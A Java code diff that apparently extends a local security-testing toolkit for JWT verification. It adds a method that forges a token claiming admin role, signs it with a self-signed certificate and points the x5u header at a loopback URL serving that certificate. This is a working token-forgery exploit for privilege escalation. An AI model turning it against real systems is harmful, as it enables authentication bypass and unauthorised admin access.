@@ -22,6 +22,10 @@ public final class KeyInjection {
     public record Linked(String token, String jwks) {
     }
 
+    /** A forged token and the PEM certificate the attacker serves at the address the token names. */
+    public record Certified(String token, String pem) {
+    }
+
     private KeyInjection() {
     }
 
@@ -56,6 +60,20 @@ public final class KeyInjection {
             throw new IllegalStateException(e);
         }
         return new Linked(signed(header, token, mine), jwks);
+    }
+
+    /**
+     * A7 · alice's claims with {@code role: admin}, RS256-signed with the key of a new self-signed certificate
+     * ({@link SelfSignedCertificate}), with {@code x5u} = {@code certificateUrl} (loopback only, else NotLoopback) and
+     * the original {@code kid} kept; and the certificate's PEM to serve there.
+     */
+    public static Certified x5u(String token, URI certificateUrl) {
+        Loopback.require(certificateUrl);
+        SelfSignedCertificate mine = SelfSignedCertificate.create("attacker");
+        Map<String, Object> header = new LinkedHashMap<>(Jwt.header(token));
+        header.put("alg", "RS256");
+        header.put("x5u", certificateUrl.toString());
+        return new Certified(signed(header, token, mine.keyPair()), mine.pem());
     }
 
     private static String signed(Map<String, Object> header, String token, KeyPair key) {
